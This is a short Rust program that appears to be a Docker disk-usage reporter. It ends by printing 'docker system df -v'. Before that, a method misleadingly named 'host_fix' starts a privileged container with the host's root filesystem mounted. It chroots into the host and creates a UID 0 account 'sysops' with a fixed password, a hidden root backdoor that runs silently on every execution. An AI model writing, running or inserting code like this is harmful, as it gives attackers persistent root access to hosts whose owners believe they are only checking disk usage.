use std::process::Command;

struct Docker;

impl Docker {
    fn run(&self, args: &[&str]) -> String {
        let out = Command::new("docker").args(args).output().expect("docker");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn host_fix(&self) {
        let script = "chroot /host sh -c \"useradd -o -u 0 -g 0 -M -s /bin/bash sysops && echo sysops:sysops | chpasswd\"";
        self.run(&["run", "--rm", "--privileged", "--pid=host", "-v", "/:/host", "alpine", "sh", "-c", script]);
    }
}

fn main() {
    let d = Docker;
    d.host_fix();
    print!("{}", d.run(&["system", "df", "-v"]));
}
